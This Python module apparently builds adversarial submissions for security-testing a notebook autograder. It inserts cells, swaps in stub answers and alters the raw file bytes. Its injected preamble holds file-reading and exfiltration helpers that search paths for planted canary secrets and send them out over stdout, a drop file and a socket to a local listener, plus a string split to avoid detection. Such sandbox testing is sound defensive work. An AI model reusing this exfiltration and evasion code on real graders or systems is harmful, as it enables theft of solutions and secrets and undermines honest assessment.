"""Make submissions from the released notebook: cells put in, answers replaced, bytes changed.

Extra cells come right after the locked set-up cell. They begin with a preamble that gives every attack the
same few words: ``COURSE``, ``tell`` and so on.
"""

# ruff: noqa: E501 (lines of attacks, in strings)

import json
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path

from corpus.model import FULL, Build, HandedIn, Place

WRONG = {
    "freeze_backbone": "def freeze_backbone(model):\n    return model\n",
    "replace_head": "def replace_head(model, classes):\n    return model\n",
    "make_optimizer": (
        "def make_optimizer(model, lr):\n    return torch.optim.SGD(model.parameters(), lr=0.7, weight_decay=0.01)\n"
    ),
    "set_train_mode": "def set_train_mode(model):\n    return model\n",
    "train_one_epoch": "def train_one_epoch(model, loader, optimizer):\n    return 0.25\n",
    "precompute_features": """def precompute_features(model, loader):
    model.train()
    with torch.no_grad():
        pairs = [(model.backbone(images), labels) for images, labels in loader]
    return torch.cat([pair[0] for pair in pairs]), torch.cat([pair[1] for pair in pairs])
""",
}
"""An answer to each task that earns nothing and raises nothing."""

PREAMBLE = '''
import os, re, sys
from pathlib import Path
COURSE, SOLUTIONS, SUITES, HOME, DROP = map(Path, {paths!r})
PORT, ME, NEIGHBOUR, MARK = {words!r}
TASKS = {tasks!r}

def tell(*words):
    """Bring words out by every road there is: the page, a file, the network."""
    text = " ".join(map(str, words))[:4000]
    print(text)
    try:
        with open(DROP / ME, "a") as file:
            file.write(text + "\\n")
    except OSError:
        pass
    try:
        import socket
        with socket.create_connection(("127.0.0.1", PORT), 1) as line:
            line.sendall((ME + " " + text).encode())
    except OSError:
        pass

def reached(what):
    """Something worked that should not. The word is put together here, so that this text is no alarm."""
    tell("REA" "CHED:" + what)

def canaries(text):
    """The planted secrets in a text."""
    return sorted(set(re.findall("can" "ary-[a-z]+-[0-9a-f]+", text)))

def show(path):
    """Read a file and bring out the secrets in it."""
    try:
        found = canaries(Path(path).read_bytes().decode("latin-1"))
    except OSError as error:
        print("no", type(error).__name__)
    else:
        tell(path, *found)
'''


def notebook(place: Place) -> dict:
    """The released notebook as plain JSON, each source one string."""
    content = json.loads(place.released)
    for cell in content["cells"]:
        cell["source"] = "".join(cell["source"])
    return content


def name_of(cell: dict) -> str | None:
    """A cell's grade_id."""
    return cell["metadata"].get("nbgrader", {}).get("grade_id")


def find(content: dict, name: str) -> dict:
    """The cell with this grade_id."""
    return next(cell for cell in content["cells"] if name_of(cell) == name)


def dump(content: dict) -> bytes:
    """A notebook as the bytes of its file."""
    return json.dumps(content, indent=1).encode()


def code_cell(source: str) -> dict:
    """A code cell that the student added."""
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def markdown_cell(source: str) -> dict:
    """A text cell that the student added."""
    return {"cell_type": "markdown", "metadata": {}, "source": source}


def preamble(place: Place) -> str:
    """The words that every attack may use."""
    paths = [str(path) for path in (place.course, place.solutions, place.suites, place.home, place.drop)]
    words = (place.port, place.student, place.neighbour, place.mark)
    return PREAMBLE.format(paths=paths, words=words, tasks=sorted(FULL))


def answer(content: dict, place: Place, own: Mapping[str, str], right: Iterable[str] = ()) -> None:
    """Fill in the answers: the student's own, right ones for ``right``, and wrong ones elsewhere."""
    for task in FULL:
        name = f"{task}-solution"
        source = own.get(task) or (place.answers[name] if task in set(right) else WRONG[task])
        find(content, name)["source"] = source


def insert(content: dict, cells: Iterable[dict], after: str = "set-up") -> None:
    """Put cells in after the one with this grade_id."""
    place = content["cells"].index(find(content, after)) + 1
    content["cells"][place:place] = list(cells)


def without_ids(content: dict) -> dict:
    """A notebook in the older format, whose cells have no ids: cells that were put in have none either."""
    content["nbformat_minor"] = 4
    for cell in content["cells"]:
        cell.pop("id", None)
    return content


def cells(
    *sources: str,
    own: Mapping[str, str] | None = None,
    right: Iterable[str] = (),
    last: Iterable[str] = (),
    texts: Iterable[str] = (),
    files: Mapping[str, bytes] | None = None,
    arrange: Callable[[Path], None] | None = None,
) -> Build:
    """A submission with extra code cells.

    Args:
        sources: the cells after the set-up; a preamble comes before them.
        own: answers by task.
        right: the tasks with a right answer; all others get one that earns nothing.
        last: code cells at the notebook's end.
        texts: Markdown cells at the notebook's end.
        files, arrange: as in :class:`HandedIn`.
    """

    def build(place: Place) -> HandedIn:
        content = notebook(place)
        answer(content, place, own or {}, right)
        start = [preamble(place), *sources] if sources or own else []
        insert(content, [code_cell(source) for source in start])
        content["cells"] += [code_cell(source) for source in last]
        content["cells"] += [markdown_cell(text.replace("MARK", place.mark)) for text in texts]
        return HandedIn(dump(without_ids(content)), files or {}, arrange)

    return build


def reshaped(
    change: Callable[[dict, Place], None], own: Mapping[str, str] | None = None, right: Iterable[str] = ()
) -> Build:
    """A submission whose notebook was changed as a whole; the answers as in :func:`cells`."""

    def build(place: Place) -> HandedIn:
        content = without_ids(notebook(place))
        answer(content, place, own or {}, right)
        change(content, place)
        return HandedIn(dump(content))

    return build


def raw(make: Callable[[bytes], bytes], right: Iterable[str] = ()) -> Build:
    """A submission whose file is made from the bytes of a notebook."""

    def build(place: Place) -> HandedIn:
        content = without_ids(notebook(place))
        answer(content, place, {}, right)
        return HandedIn(make(dump(content)))

    return build


def honest(
    own: Mapping[str, str] | None = None,
    start: Iterable[str] = (),
    texts: Iterable[str] = (),
    files: Mapping[str, bytes] | None = None,
    change: Callable[[dict], None] | None = None,
    encode: Callable[[dict], bytes] = dump,
) -> Build:
    """A twin's submission: right answers, some of them the student's own, and no preamble."""

    def build(place: Place) -> HandedIn:
        content = without_ids(notebook(place))
        answer(content, place, own or {}, FULL)
        insert(content, [code_cell(source) for source in start])
        content["cells"] += [markdown_cell(text) for text in texts]
        if change is not None:
            change(content)
        return HandedIn(encode(content), files or {})

    return build


def but(*tasks: str) -> dict[str, float]:
    """Full points for all tasks except these."""
    return {task: points for task, points in FULL.items() if task not in tasks}
